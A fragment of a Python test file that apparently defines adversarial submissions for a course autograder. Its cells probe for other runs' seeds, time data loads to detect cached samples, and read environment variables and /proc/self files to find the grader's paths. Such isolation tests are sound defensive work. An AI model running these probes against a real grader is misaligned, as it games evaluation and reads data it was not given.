                    if type(thing) in (list, tuple, dict, set) and len(thing) < 10 and thing is not wanted:
                        try:
                            if any(type(one) is int and one in wanted for one in thing):
                                {LEAK}("a seed of another look in", type(thing).__name__)
                                break
                        except Exception:
                            pass
            """)
        },
        {"I.1": PASSED},
    ),
    Attack(
        "draws-the-data-of-other-looks",
        "It draws data of likely seeds, and sees by the time that it takes which of them are there already.",
        {
            "I.1": cell("""
                import time
                {SOLUTION}
                from coursekit.data import IMDB
                quick = []
                for step in (1, 2, -1, -2):
                    start = time.perf_counter()
                    try:
                        IMDB.sample(IMDB.sample_seed + step)
                    except Exception:
                        continue
                    if time.perf_counter() - start < 0.001:
                        quick.append(step)
                if quick:
                    {LEAK}("the data of other looks:", quick)
            """)
        },
        {"I.1": PASSED},
    ),
    Attack(
        "looks-for-the-grader-in-names",
        "It looks for paths of the grader's machine in all that names a file, a folder or a mount.",
        {
            "I.1": cell("""
                import os
                import sys
                {SOLUTION}
                texts = [*sys.argv, *sys.orig_argv, *os.environ.values(), os.getcwd()]
                for name in ("mountinfo", "mounts", "cmdline", "environ"):
                    with open(f"/proc/self/{name}", errors="replace") as file:
                        texts.append(file.read())
                found = {word for text in texts for word in text.replace(chr(34), " ").split()
                         if "coursekit-" in word and "/" in word}
                if found:
                    {LEAK}("paths of the grader:", sorted(found)[:5])
            """)
        },
        {"I.1": PASSED},
    ),
)

GRADER = (*MESSAGES, *LOOKS)

NEIGHBOURS: tuple[Attack, ...] = (*SHARED, *CALLS, *LIMITS, *GRADER)
